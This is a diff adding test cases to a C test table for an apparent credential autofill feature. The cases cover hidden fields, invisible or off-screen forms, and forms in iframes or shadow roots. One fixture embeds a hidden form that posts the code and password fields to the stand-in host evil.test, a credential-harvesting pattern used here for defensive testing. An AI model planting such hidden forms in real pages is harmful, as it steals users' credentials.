@@ -231,6 +231,31 @@ static const struct
   { "a password that cannot be changed",
     FORM (POST, "<input name=email><input name=code><input name=pw readonly>"), PAGE,
     MESIGN_FILL_PARTLY, ADDRESS "|CODE42|" },
+  { "fields that nobody sees",
+    FORM (POST, "<input name=email><input name=code type=hidden><input name=pw type=hidden>"), PAGE,
+    MESIGN_FILL_NO_FORM, "||" },
+  { "a form that nobody sees", FORM (POST " style=display:none", FIELDS ("")), PAGE,
+    MESIGN_FILL_NO_FORM, NOTHING },
+  { "a form that is seen through", FORM (POST " style=opacity:0", FIELDS ("")), PAGE,
+    MESIGN_FILL_NO_FORM, NOTHING },
+  { "a form beside the page", FORM (POST " style=position:absolute;left:-3000px", FIELDS ("")),
+    PAGE, MESIGN_FILL_NO_FORM, NOTHING },
+  { "a code that nobody sees",
+    FORM (POST, "<input name=email><input name=code style=visibility:hidden><input name=pw>"), PAGE,
+    MESIGN_FILL_PARTLY, ADDRESS "||secret" },
+  { "a hidden form beside the one that is seen",
+    FORM (POST,
+          FIELDS ("")) "<form method=post action=https://evil.test/><input type=hidden name=code>"
+                       "<input type=hidden name=pw></form>",
+    PAGE, MESIGN_FILL_DONE, EVERYTHING },
+  { "a form in a frame of the page's own",
+    "<iframe srcdoc='<form method=post action=/retrieve><input name=email><input name=code><input "
+    "name=pw></form>'></iframe>",
+    PAGE, MESIGN_FILL_NO_FORM, "" },
+  { "a form in a tree of its own",
+    "<div><template shadowrootmode=open><form method=post action=/retrieve><input name=email>"
+    "<input name=code><input name=pw></form></template></div>",
+    PAGE, MESIGN_FILL_NO_FORM, "" },
 };
 
 #define READ                                                                                       \
